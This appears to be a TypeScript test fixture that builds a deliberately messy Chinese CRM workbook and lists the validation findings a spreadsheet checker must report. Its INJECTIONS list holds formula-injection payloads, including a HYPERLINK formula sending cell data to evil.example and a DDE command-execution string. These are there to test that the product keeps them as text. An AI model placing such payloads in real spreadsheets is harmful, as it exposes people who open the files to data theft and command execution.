// A hand-built workbook with the messy forms real teams produce and one instance of every finding code,
// written with exceljs directly (not through the product's own writer) so the reader is tested against
// files it did not make. EXPECTED lists, from the construction below, where each finding must be reported.
import ExcelJS from "exceljs";
import { usccCheckChar } from "../../scripts/sample";

export const AS_OF = "2024-06-30";
/** A sheet name with a space and a quote: addresses must quote it like Excel does. */
export const CUSTOMERS = "客户 名单's";
export const Q = `'客户 名单''s'`;

const uscc = (first17: string) => first17 + usccCheckChar(first17);
export const GOOD_USCC = uscc("91350100M00010000");

/** Text a spreadsheet would take for a formula: must stay text wherever the product writes or keeps it. */
export const INJECTIONS = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"];

const utc = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d));

/** [code, address] pairs the engine must report for this book (as of AS_OF). */
export const EXPECTED: [string, string][] = [
  ["MERGED_CELL", `${Q}!J10`],
  ["REQUIRED_MISSING", `${Q}!C5`],
  ["UNMASKED_PHONE", `${Q}!D5`],
  ["BAD_ENUM", `${Q}!F5`],
  ["BAD_USCC", `${Q}!H5`],
  ["BAD_AMOUNT", `${Q}!I5`],
  ["OUT_OF_RANGE", `${Q}!K5`],
  ["BAD_DATE", `${Q}!E6`],
  ["BLANK_ROWS", `${Q}!A7`],
  ["DUPLICATE_ID", `${Q}!A8`],
  ["FUTURE_DATE", `${Q}!E8`],
  ["DATE_ORDER", `${Q}!G9`],
  ["CELL_ERROR", `${Q}!I9`],
  ["NEGATIVE_AMOUNT", `${Q}!I10`],
  ["STAGE_STALE", `${Q}!F11`],
  ["DETAIL_MISMATCH", `${Q}!J4`],
  // Consequences of the rows above, each worked out by hand:
  // C001's 年采购额 12万 vs 5万 ordered in the last 12 months; C006's 30万 vs nothing ordered since 2023-01-01.
  ["DETAIL_MISMATCH", `${Q}!I4`],
  ["DETAIL_MISMATCH", `${Q}!I11`],
  // C004 and C005 have no order or interaction at all: 潜在客户, not the recorded 意向/成交.
  ["STAGE_STALE", `${Q}!F9`],
  ["STAGE_STALE", `${Q}!F10`],
  ["UNKNOWN_CUSTOMER", "订单!A5"],
  ["COLUMN_MISSING", "关键节点!A1"],
  ["TABLE_MISSING", "旧客户!A1"],
  ["BAD_RULE", "CRM规则!B2"],
];

export function messyWorkbook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.creator = "a sales team";

  const ws = wb.addWorksheet(CUSTOMERS, { views: [{ state: "frozen", ySplit: 3 }] });
  ws.mergeCells("A1:L1");
  ws.getCell("A1").value = "客户信息表（2024 年）";
  ws.getCell("A1").font = { bold: true, size: 16, color: { argb: "FF1F4E79" } };
  ws.getCell("A1").alignment = { horizontal: "center" };
  const header = ["客户编号", "客户名称", "联系人", "联系方式", "首次触达时间", "当前周期阶段", "进入阶段时间", "统一社会信用代码", "年采购额(万元)", "最近下单时间", "满意度", "备注"];
  ws.getRow(3).values = header;
  ws.getRow(3).eachCell((c) => {
    c.font = { bold: true };
    c.fill = { type: "pattern", pattern: "solid", fgColor: { argb: "FFFFF2CC" } };
    c.border = { bottom: { style: "medium" } };
  });
  const rows: ExcelJS.CellValue[][] = [
    // 4: rich text name, formula with cached result, a date with a date format, a last-order that disagrees with 订单.
    ["C001", { richText: [{ text: "华东" }, { font: { bold: true }, text: "星海科技" }, { text: "有限公司" }] }, "张三", "138****5678", utc(2023, 3, 15), "成交客户", utc(2023, 5, 1), GOOD_USCC,
      { formula: "6*2", result: 12 }, "2024-05-01", 4, INJECTIONS[0]],
    // 5: hyperlink name, blank contact, full phone, bad stage, bad USCC, bad amount, satisfaction out of range.
    ["C002", { text: "海南椰风贸易", hyperlink: "https://example.com/c002" }, null, "客户电话 13912345678（工作日）", "2024/1/5", "跟进中", null, "91350100M000100001", "约2万", null, 8, INJECTIONS[1]],
    // 6: hidden row, an impossible date written as text.
    ["C003", "黔南茶业", "李四", "0851-****1234", "2024-13-40", "潜在客户", null, null, null, null, 3, INJECTIONS[2]],
    // 7: blank row inside the table.
    [],
    // 8: a repeated ID and a first contact after the as-of date.
    ["C003", "黔南茶业分公司", "王五", "137****0000", "2030-01-01", null, null, null, null, null, null, INJECTIONS[3]],
    // 9: stage entered before first contact; an error value where a number belongs.
    ["C004", "闽北竹木", "赵六", "136****1111", utc(2023, 6, 1), "意向客户", utc(2023, 1, 1), null, { error: "#N/A" } as ExcelJS.CellErrorValue, null, null, INJECTIONS[4]],
    // 10: negative amount; 满意度 and 备注 merged across.
    ["C005", "粤西水产", "钱七", "135****2222", 45292, "成交客户", 45300, null, -5, null, 4, null],
    // 11: recorded 稳定客户 but no order for 18 months: the stage is stale.
    ["C006", "皖南纸业", "孙八", "133****3333", "2022年3月1日", "稳定客户", "2022.6.1", null, 30, "2023-01-01", 5, null],
  ];
  rows.forEach((r, i) => (ws.getRow(4 + i).values = r));
  ws.getCell("E8").numFmt = "yyyy-mm-dd";
  ws.getCell("E10").numFmt = "yyyy/m/d";
  ws.getCell("G10").numFmt = "yyyy/m/d";
  ws.getRow(6).hidden = true;
  ws.mergeCells("J10:K10");
  ws.getColumn(2).width = 24;
  ws.getColumn(12).width = 30;
  ws.getCell("L4").font = { italic: true, color: { argb: "FF7F7F7F" } };
  // The user's own validation, rule and name: all must survive.
  (ws as unknown as { dataValidations: { add(ref: string, dv: ExcelJS.DataValidation): void } }).dataValidations.add("K4:K11", { type: "whole", operator: "between", allowBlank: true, formulae: [0, 5], showErrorMessage: true, error: "0-5" });
  ws.addConditionalFormatting({ ref: "K4:K11", rules: [{ type: "cellIs", operator: "lessThan", priority: 1, formulae: ["3"], style: { font: { color: { argb: "FFFF0000" } } } }] });
  wb.definedNames.add(`${Q}!$A$3:$L$11`, "客户区域");

  // Orders as an Excel table (ListObject): the last order of C001 is 2024-06-01, C999 is unknown.
  const orders = wb.addWorksheet("订单");
  orders.addTable({
    name: "订单表", ref: "A1", headerRow: true, style: { theme: "TableStyleLight9", showRowStripes: true },
    columns: [{ name: "客户编号" }, { name: "下单日期" }, { name: "金额" }],
    rows: [["C001", utc(2024, 6, 1), 50000], ["C006", utc(2023, 1, 1), 10000], ["C002", utc(2024, 2, 1), 2000], ["C999", utc(2024, 3, 1), 100]],
  });
  orders.getColumn(2).numFmt = "yyyy-mm-dd";

  // A key-date table without any customer column.
  const keyDates = wb.addWorksheet("关键节点");
  keyDates.addRow(["节点类型", "日期", "说明"]);
  keyDates.addRow(["合同到期", utc(2024, 7, 10), "哪位客户？"]);

  // An older, smaller customers table: not used, with a warning.
  const old = wb.addWorksheet("旧客户");
  old.addRow(["客户编号", "客户名称", "联系人"]);
  old.addRow(["X1", "旧客户甲", "周九"]);

  const rules = wb.addWorksheet("CRM规则");
  rules.addRow(["参数", "值", "说明"]);
  rules.addRow(["cadence.A", "一周", "A 类客户跟进间隔（天）"]);

  // A sheet the product knows nothing about, with formulas and styles of every kind.
  const notes = wb.addWorksheet("备忘");
  notes.getCell("A1").value = { formula: "SUM(B1:B3)", result: 6 };
  notes.getCell("B1").value = 1;
  notes.getCell("B2").value = 2;
  notes.getCell("B3").value = 3;
  notes.getCell("C1").value = { richText: [{ text: "红", font: { color: { argb: "FFFF0000" } } }, { text: "字" }] };
  notes.getCell("D1").value = true;
  notes.getCell("E1").value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue;
  notes.getCell("F1").value = "'前导撇号";
  notes.getCell("G1").value = INJECTIONS[1];
  notes.getCell("H1").value = utc(1900, 3, 1);
  notes.getCell("H1").numFmt = "yyyy-mm-dd";
  return wb;
}
